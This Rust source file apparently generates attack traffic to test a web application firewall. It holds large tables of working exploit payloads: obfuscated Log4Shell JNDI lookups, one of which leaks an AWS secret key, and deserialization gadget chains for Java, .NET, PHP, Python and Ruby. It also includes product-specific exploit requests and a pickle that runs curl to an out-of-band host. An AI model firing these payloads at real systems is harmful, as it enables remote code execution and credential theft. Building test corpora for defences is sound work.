//! Lookups and objects: what a program resolves or builds before anybody looks at it.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::codec;
use super::super::super::encode::Encoding::{self, Base64, DoublePercent, JsonEscape, Percent, Plain};
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, Part, Wire, multipart};
use super::make::{Hole, Whole, agent, cookie, form, header, json, one, path, query, whole, with_session, xml};

const ORDINARY: &[Encoding] = &[Plain, Percent, Plain, JsonEscape, DoublePercent, Base64];
const LOGGED: &[Place] =
    &[Place::Header, Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Xml, Place::Multipart];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload(
        "jndi-logged-values",
        AttackClass::Jndi,
        38,
        |rng| one(rng, LOOKUPS),
        LOGGED,
        &[Plain, Percent, Plain, JsonEscape],
    ),
    payload(
        "jndi-masked-lookups",
        AttackClass::Jndi,
        40,
        |rng| one(rng, MASKED),
        LOGGED,
        &[Plain, Percent, Plain, JsonEscape, DoublePercent],
    ),
    request("jndi-known-logins", AttackClass::Jndi, 36, |rng| whole(rng, LOGINS)),
    payload(
        "deser-typed-json",
        AttackClass::Deser,
        40,
        |rng| one(rng, TYPED),
        &[Place::Json, Place::Form, Place::Multipart, Place::Query],
        ORDINARY,
    ),
    payload(
        "deser-php-objects",
        AttackClass::Deser,
        38,
        |rng| one(rng, OBJECTS),
        &[Place::Cookie, Place::Form, Place::Query, Place::Json],
        ORDINARY,
    ),
    payload(
        "deser-yaml-xml-text",
        AttackClass::Deser,
        36,
        |rng| one(rng, TEXTS),
        Place::INPUTS,
        &[Plain, Percent, JsonEscape, Base64],
    ),
    request("deser-streams", AttackClass::Deser, 40, streams),
    request("deser-known-endpoints", AttackClass::Deser, 36, |rng| whole(rng, ENDPOINTS)),
];

const LOOKUPS: &[&str] = &[
    "${jndi:ldap://§h/§w}",
    "${jndi:rmi://10.9.8.7:1099/§w}",
    "${jndi:dns://§h/§w}",
    "${jndi:ldaps://§h/§w}",
    "${jndi:ldap://10.9.8.7:1389/Basic/Command/Base64/⟨§c⟩}",
    "${jndi:ldap://10.9.8.7:1389/TomcatBypass/TomcatEcho/§w}",
    "${jndi:ldap://${hostName}.§h/§w}",
    "${jndi:ldap://${sys:java.version}.§h/§w}",
    "${jndi:ldap://127.0.0.1#§h:1389/§w}",
    "${jndi:iiop://10.9.8.7/§w}",
    "${jndi:corba:rir://10.9.8.7/§w}",
    "${jndi:nis://§h/§w}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.§h/§w}",
    "张三${jndi:ldap://§h/§w}",
    "${jndi:rmi://§h:§n/Deserialization/CommonsCollectionsK1/ReverseShell/10.9.8.7/§n}",
    "${jndi:ldap://10.9.8.7:1389/Deserialization/CommonsBeanutils1/Command/§w}",
];

const MASKED: &[&str] = &[
    "${${lower:j}ndi:${lower:l}dap://§h/§w}",
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}mi://§h/§w}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://§h/§w}",
    "${${env:§v:-j}ndi${env:§v:-:}${env:§v:-l}dap${env:§v:-:}//§h/§w}",
    "${jn${lower:d}i:l${lower:d}ap://§h/§w}",
    "${j${§v:§m:-n}di:ldap://§h/§w}",
    "${${upper:ı}:jnd${upper:ı}:ldap://§h/§w}",
    "${jnd${upper:ı}:ldap://§h/§w}",
    "${${sys:§v:-j}${sys:§v:-n}di:rmi://10.9.8.7:§n/§w}",
    "${${lower:${lower:jndi}}:${lower:rmi}://§h/§w}",
    "${${lower:jnd}${lower:${upper:ı}}:dns://§h/§w}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://§h/§w}",
    "${${main:§v:-j}ndi:ldap://§h/§w}",
    "${${base64:am5kaQ==}:ldap://§h/§w}",
    "${jndi${123%25ff:-}:ldap://§h/§w}",
    "${${-:::-:-j}ndi:ldap://§h/§w}",
    "${\\u006a\\u006e\\u0064\\u0069:ldap://§h/§w}",
    "${${:-${::-j}}ndi:ldap${::-:}//§h/§w}",
    "$${jn$${::-}di:ldap://§h/§w}${jndi:${lower:l}dap://§h/§w}",
    "${j${loWer:Nd}i${uPper::}:ldap://§h/§w}",
    "${jndi:l${lower:D}a${lower:P}://§h/§w}",
];

/// Logins and headers of products that logged with it, and interfaces that take the name of a source.
const LOGINS: &[Hole] = &[
    header("/websso/SAML2/SSO/vsphere.local?SAMLRequest=", "X-Forwarded-For: ${jndi:ldap://§h/§w}"),
    query("/solr/admin/cores?action=«${jndi:ldap://§h/§w}»"),
    query("/solr/admin/collections?action=«${jndi:ldap://${sys:java.version}.§h/§w}»&wt=json"),
    json("/api/login", "{\"username\":\"§w\",\"password\":\"x\",\"remember\":\"${jndi:ldap://§h/o=tomcat}\",\"strict\":true}"),
    form("/broker/xml", "u=«${jndi:ldap://§h/§w}»&p=§w"),
    header("/portal/info.jsp", "Accept-Language: ${jndi:ldap://10.9.8.7:1389/§w}"),
    form("/j_security_check", "j_username=«${jndi:ldap://§h/§w}»&j_password=§w"),
    path("/«${jndi:ldap://§h/§w}»/"),
    path("/druid/coordinator/«${jndi:ldap://§h/§w}»"),
    header("/struts2-showcase/", "If-Modified-Since: ${jndi:ldap://§h/§w}"),
    header("/", "User-Agent: ${${::-j}ndi:rmi://§h/§w}\nReferer: ${jndi:ldap://§h/§w}"),
    header("/", "X-Api-Version: ${jndi:dns://§h/§w}"),
    header("/api/v1/login", "Authorization: Bearer ${jndi:ldap://§h/§w}"),
    header("/", "X-Forwarded-Host: ${${lower:j}ndi:ldap://§h/§w}\nOrigin: ${jndi:ldap://§h/§w}"),
    cookie("/", "Cookie: JSESSIONID=${jndi:ldap://§h/§w}; lang=zh"),
    form("/seeyon/main.do?method=login", "login_username=«${jndi:ldap://§h/§w}»&login_password=§w"),
    query("/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/10.9.8.7!/§w.xml").at(Place::Path),
    form("/h2-console/login.do?jsessionid=§x", "language=en&setting=Generic+JNDI&driver=javax.naming.InitialContext&url=«ldap://10.9.8.7:1389/§w»&user=&password="),
    form("/console/consolejndi.portal?_pageLabel=JNDIBindingPageGeneral&_nfpb=true", "JNDIBindingPortlethandle=«com.bea.console.handles.JndiBindingHandle(\"ldap://10.9.8;7:1389/§w;AdminServer\")»"),
    xml("/services/LoginService", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><login><user>${jndi:ldap://§h/§w}</user></login></soapenv:Body></soapenv:Envelope>"),
];

const TYPED: &[&str] = &[
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://§h/§w\",\"autoCommit\":true}",
    "{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://10.9.8.7:1099/§w\",\"autoCommit\":true}}",
    "{\"@type\":\"java.net.Inet4Address\",\"val\":\"§w.§h\"}",
    "{\"@type\":\"java.net.InetSocketAddress\"{\"address\":,\"val\":\"§w.oob.example\"}}",
    "{{\"@type\":\"java.net.URL\",\"val\":\"http://§h/§w\"}:\"x\"}",
    "{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":{\"data_source\":\"ldap://§h/§w\"}}",
    "{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"yv66vgAAADQA§t\"],\"_name\":\"§w\",\"_tfactory\":{},\"_outputProperties\":{}}",
    "{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"$$BCEL$$$l$8b$I$A$A§t\"}",
    "{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"com.mysql.jdbc.JDBC4Connection\",\"hostToConnectTo\":\"10.9.8.7\",\"portToConnectTo\":§n,\"url\":\"jdbc:mysql://10.9.8.7/§w?autoDeserialize=true\"}",
    "{\"@type\":\"org.apache.shiro.jndi.JndiObjectFactory\",\"resourceName\":\"ldap://§h/§w\"}",
    "{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"ldap://§h/§w\",\"autoCommit\":true}",
    "{\"\\x40type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://§h/§w\",\"autoCommit\":true}",
    "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://§h/§w\",\"autoCommit\":true}]",
    "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"rmi://10.9.8.7:1099/§w\"}]",
    "[\"org.apache.xbean.propertyeditor.JndiConverter\",{\"asText\":\"ldap://§h/§w\"}]",
    "{\"@class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"configLocation\":\"http://§h/§w.xml\"}",
    "{\"$type\":\"System.IO.FileInfo, System.IO.FileSystem\",\"fileName\":\"§w.txt\",\"x\":{\"$type\":\"System.Diagnostics.Process, System\",\"StartInfo\":{\"FileName\":\"cmd\",\"Arguments\":\"/c whoami\"}}}",
    "{\"__type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"__type\":\"System.Diagnostics.Process, System\",\"StartInfo\":{\"__type\":\"System.Diagnostics.ProcessStartInfo, System\",\"FileName\":\"cmd\",\"Arguments\":\"/c §k > §w\"}}}",
    "{\"py/object/apply\":\"os.system\",\"args\":[\"§c\"],\"n\":§n}",
    "{\"py/reduce\":[{\"py/function\":\"subprocess.check_output\"},{\"py/tuple\":[\"§c\"]}],\"§w\":1}",
    "{\"json_class\":\"Gem::Requirement\",\"^o\":\"Gem::Installer\",\"i\":\"§w\"}",
    "{\"x\":{\"@type\":\"com.alibaba.fastjson.JSONObject\",\"x\":{\"@type\":\"java.lang.Exception\",\"@type\":\"org.§w.Exec\"}}}",
];

/// Chains of the frameworks that PHP applications are built with.
const OBJECTS: &[&str] = &[
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\0*\0socket\";O:29:\"Monolog\\Handler\\BufferHandler\":2:{s:10:\"\0*\0handler\";r:2;s:13:\"\0*\0bufferSize\";i:-§d;}}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\0*\0events\";O:25:\"Illuminate\\Bus\\Dispatcher\":1:{s:16:\"\0*\0queueResolver\";s:6:\"system\";}s:8:\"\0*\0event\";s:4:\"id §d\";}",
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":4:{s:41:\"\0GuzzleHttp\\Cookie\\FileCookieJar\0filename\";s:12:\"/tmp/§d.phpxx\";}",
    "O:27:\"think\\process\\pipes\\Windows\":1:{s:34:\"\0think\\process\\pipes\\Windows\0files\";a:1:{i:0;O:17:\"think\\model\\Pivot\":§d:{}}}",
    "a:2:{s:7:\"adapter\";O:12:\"Typecho_Feed\":2:{s:19:\"\0Typecho_Feed\0_type\";s:7:\"RSS 2.0\";s:20:\"\0Typecho_Feed\0_items\";a:1:{i:0;a:1:{s:6:\"author\";O:15:\"Typecho_Request\":1:{s:24:\"\0Typecho_Request\0_filter\";a:1:{i:0;s:6:\"assert\";}}}}}s:6:\"prefix\";s:1:\"§d\";}",
    "O:23:\"yii\\db\\BatchQueryResult\":1:{s:36:\"\0yii\\db\\BatchQueryResult\0_dataReader\";O:15:\"Faker\\Generator\":1:{s:13:\"\0*\0formatters\";a:1:{s:5:\"close\";s:7:\"phpinfo\";}}}//§w",
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}s:21:\"\0\0\0disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":§d:{}i:1;s:4:\"init\";}}}",
    "O:+4:\"Test\":1:{s:1:\"a\";s:§d:\"phpinfo();\";}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:1:{s:1:\"a\";i:§n;}}",
    "O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}§w",
    "O:10:\"SoapClient\":4:{s:3:\"uri\";s:1:\"a\";s:8:\"location\";s:22:\"http://127.0.0.1:§n/\";s:11:\"_user_agent\";s:8:\"§w\r\nX: 1\";s:13:\"_soap_version\";i:1;}",
    "O:11:\"PMA_Config\":2:{s:6:\"source\";s:11:\"/etc/passwd\";s:5:\"mtime\";i:§n;}",
    "O:19:\"Requests_Utility_Filtered\":1:{S:8:\"callback\";S:6:\"\\73\\79\\73\\74\\65\\6d\";}§w",
    "a:1:{i:0;O:24:\"PHPUnit_Extensions_Selenium\":1:{s:4:\"file\";s:§d:\"a\";}}",
    "O:28:\"Swift_ByteStream_TemporaryFileByteStream\":1:{s:35:\"\0Swift_ByteStream_FileByteStream\0_path\";s:11:\"/tmp/§w\";}",
    "O:33:\"Symfony\\Component\\Process\\Process\":1:{s:11:\"commandline\";s:8:\"id > /§d\";}",
];

const TEXTS: &[&str] = &[
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://§h/§w\"]]]]",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'rmi://10.9.8.7:1099/§w', autoCommit: true}",
    "!!python/object/apply:subprocess.check_output [[\"§c\"]]",
    "!!python/object/new:os.system [\"§c\"]",
    "!!python/name:os.system§w",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"§w\"",
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n'§w; eval(%[system(\"§c\")])': x",
    "!!js/function 'function(){return require(\"child_process\").execSync(\"§c\")}()'",
    "<sorted-set><string>§w</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c</string><string>§c</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
    "<tree-map><entry><string>fookey</string><string>§w</string></entry><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>calc</string></command></target><action>start</action></handler></dynamic-proxy><string>x</string></entry></tree-map>",
    "<linked-hash-set><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"/></jdk.nashorn.internal.objects.NativeString><string>§w</string></linked-hash-set>",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>§w</string></void></array><void method=\"start\"/></object></java>",
    "<java><void class=\"java.io.PrintWriter\"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/§w.jsp</string><void method=\"println\"><string>x</string></void><void method=\"close\"/></void></java>",
    "<root type=\"System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework],[System.Windows.Data.ObjectDataProvider, PresentationFramework]], System.Data.Services\"><ProjectedProperty0><MethodName>Parse</MethodName><MethodParameters><anyType>§w</anyType></MethodParameters></ProjectedProperty0></root>",
    "<java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>§w</type><value class='javax.swing.MultiUIDefaults'/></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>",
    "cos\nsystem\n(S'§c'\ntR.",
    "c__builtin__\neval\n(V__import__('os').system('§c')\ntR.",
];

const ENDPOINTS: &[Hole] = &[
    json("/seeyon/..;/seeyon/main.do", "{\"name\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"x\":{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://§h/§w\",\"autoCommit\":true}}"),
    form("/seeyon/main.do?method=changeLocale", "_json_params=«{\"v47\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"xxx\":{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://§h/§w\",\"autoCommit\":true}}»"),
    json("/bic/ssoService/v1/applyCT", "{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://10.9.8.7:1389/§w\",\"autoCommit\":true},\"hfe4zyyzldp\":\"=\"}"),
    json("/solr/demo/config", "{\"set-property\":{\"jmx.serviceUrl\":\"service:jmx:rmi:///jndi/rmi://10.9.8.7:§n/obj\"}}"),
    form("/general/index/UploadFile.php?m=uploadPicture&uploadType=eoffice_logo&x=§w", "data=«O:3:\"Foo\":1:{s:1:\"a\";s:3:\"§d00\";}O:27:\"think\\process\\pipes\\Windows\":1:{s:5:\"files\";a:0:{}}»"),
    form("/general/appbuilder/web/portal/gateway/?", "_COOKIE=«O:23:\"yii\\db\\BatchQueryResult\":1:{s:36:\"_dataReader\";O:15:\"Faker\\Generator\":1:{s:10:\"formatters\";a:1:{s:5:\"close\";s:7:\"phpinfo\";}}}»&r=§w"),
    form("/install.php?finish=1", "__typecho_config=«⟨a:2:{s:7:\"adapter\";O:12:\"Typecho_Feed\":2:{s:5:\"_type\";s:8:\"ATOM 1.0\";s:6:\"_items\";a:1:{i:0;a:1:{s:6:\"author\";O:15:\"Typecho_Request\":1:{s:7:\"_params\";a:1:{s:10:\"screenName\";s:9:\"phpinfo()\";}}}}}s:6:\"prefix\";s:4:\"§d00t\";}⟩»").spelled(Base64),
    header("/administrator/", "X-Forwarded-For: }__§w|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}"),
    query("/ajax/api/hook/decodeArguments?arguments=«O:12:\"vB_dB_Result\":2:{s:5:\"\0*\0db\";O:11:\"vB_Database\":1:{s:9:\"functions\";a:1:{s:11:\"free_result\";s:7:\"phpinfo\";}}s:12:\"\0*\0recordset\";i:§n;}»"),
    xml("/webtools/control/xmlrpc", "<?xml version=\"1.0\"?><methodCall><methodName>§w</methodName><params><param><value><struct><member><name>test</name><value><serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg§t§t</serializable></value></member></struct></value></param></params></methodCall>"),
    xml("/ws/xstream", "<java.util.HashMap><entry><javax.naming.ldap.Rdn_-RdnEntry/><javax.activation.MimeTypeParameterList><parameters><entry><string>x</string><javax.naming.spi.ContinuationContext_-DirContext>ldap://§h/§w</javax.naming.spi.ContinuationContext_-DirContext></entry></parameters></javax.activation.MimeTypeParameterList></entry></java.util.HashMap>"),
    json("/api/v2/dotnet/query", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c §k\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"n\":§n}"),
    cookie("/dnn/404", "Cookie: DNNPersonalization=<profile><item key=\"§w\" type=\"System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.ObjectStateFormatter],[System.Windows.Data.ObjectDataProvider]]\"><ExpandedWrapper/></item></profile>"),
];

/// Serialized objects as bytes or in base64: Java, .NET, Python, Ruby, PHP archives.
fn streams(rng: &mut Rng) -> Whole {
    let word = rng.letters(6);
    let class = rng.pick(&[
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.beanutils.BeanComparator",
        "org.apache.commons.collections.keyvalue.TiedMapEntry",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "org.springframework.aop.framework.JdkDynamicAopProxy",
        "com.mchange.v2.c3p0.PoolBackedDataSource",
        "org.codehaus.groovy.runtime.ConvertedClosure",
        "sun.rmi.server.UnicastRef",
    ]);
    let java = [
        b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\x00\x00xpw\x0c\x00\x00\x00\x02?@\x00\x00\x00\x00\x00\x01sr\x00".as_slice(),
        &[class.len() as u8],
        class.as_bytes(),
        &rng.bytes(8),
        b"\x02\x00\x02L\x00\x03keyt\x00\x12Ljava/lang/Object;xpt\x00\x06",
        word.as_bytes(),
    ]
    .concat();
    let dotnet = [b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00ISystem, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\x05\x01\x00\x00\x00\x84\x01System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]\x04\x00\x00\x00\x05Count\x08Comparer\x07Version\x05Items".as_slice(), word.as_bytes(), b"\x0b/c whoami\x03cmd\x04\x00\x00\x00\"System.DelegateSerializationHolder\x0b"].concat();
    let run = format!("curl http://{word}.oob.example");
    let pickle = [
        b"\x80\x03cposix\nsystem\nq\x00X".as_slice(),
        &[run.len() as u8, 0, 0, 0],
        run.as_bytes(),
        b"q\x01\x85q\x02Rq\x03.",
    ]
    .concat();
    let (wire, place, encoding) = match rng.below(12) {
        0 => (Wire::post(rng.pick(&["/invoker/JMXInvokerServlet", "/invoker/readonly", "/jbossmq-httpil/HTTPServerILServlet"]), "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue", java), Place::Body, Plain),
        1 => (Wire::post(rng.pick(&["/servlet/~ic/com.ufida.zior.console.ActionHandlerServlet", "/servlet/mxservlet", "/ServiceDispatcherServlet", "/servlet/~baseapp/nc.document.pub.fileSystem.servlet.DownloadServlet"]), "application/octet-stream", if rng.chance(50) { codec::gzip(&java) } else { java }), Place::Body, Plain),
        2 => (Wire::post("/webroot/decision/remote/design/channel", "application/octet-stream", codec::gzip(&java)), Place::Body, Plain),
        3 => (Wire::post(format!("/login?n={word}"), FORM, format!("javax.faces.ViewState={}", codec::form(codec::base64(&java)))), Place::Form, Base64),
        4 => (Wire::get(format!("/pages/{word}.jsf?ln={}", codec::percent(codec::base64(&java)))), Place::Query, Base64),
        5 => {
            let header = with_session(rng, &format!("userData={}", codec::base64(&java)));
            (Wire::get("/").header("Cookie", header), Place::Cookie, Base64)
        }
        6 => (Wire::post(format!("/{word}.aspx"), FORM, format!("__VIEWSTATE={}&__VIEWSTATEGENERATOR={}", codec::form(codec::base64([b"\xff\x01\x32\xf4\x10".as_slice(), &dotnet].concat())), rng.hex(8).to_uppercase())), Place::Form, Base64),
        7 => (Wire::post("/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", FORM, format!("MSOTlPn_Uri=http%3A%2F%2F{word}.example&MSOTlPn_DWP={}", codec::form(format!("<%@ Register Tagprefix=\"S\" Namespace=\"Microsoft.PerformancePoint.Scorecards\" %><S:ExcelDataSet CompressedDataTable=\"{}\" DataTable-CaseSensitive=\"true\" runat=\"server\"/>", codec::base64(codec::gzip(&dotnet)))))).header("Referer", "/_layouts/SignOut.aspx"), Place::Form, Base64),
        8 => (Wire::post("/api/session/load", "application/octet-stream", pickle), Place::Body, Plain),
        9 => (Wire::get(format!("/cache?data={}", codec::percent(codec::base64(&pickle)))), Place::Query, Base64),
        10 => {
            let archive = [format!("GIF89a<?php __HALT_COMPILER(); ?>\r\n{word}").as_bytes(), b"\x00\x00\x00\x01\x00\x00\x00\x11\x00\x00\x00\x01\x00\x00\x00\x00\x00\x30\x00\x00\x00O:17:\"think\\model\\Pivot\":0:{}", &rng.bytes(24), b"GBMB"].concat();
            let (kind, body) = multipart(&[Part::file("file", "a.gif", "image/gif", archive)], rng);
            (Wire::post("/upload/avatar", &kind, body), Place::Multipart, Plain)
        }
        _ => (Wire::get("/api/user").header("X-User-Token", codec::base64(&java)), Place::Header, Base64),
    };
    (agent(rng, wire, place).finish(rng), place, encoding)
}
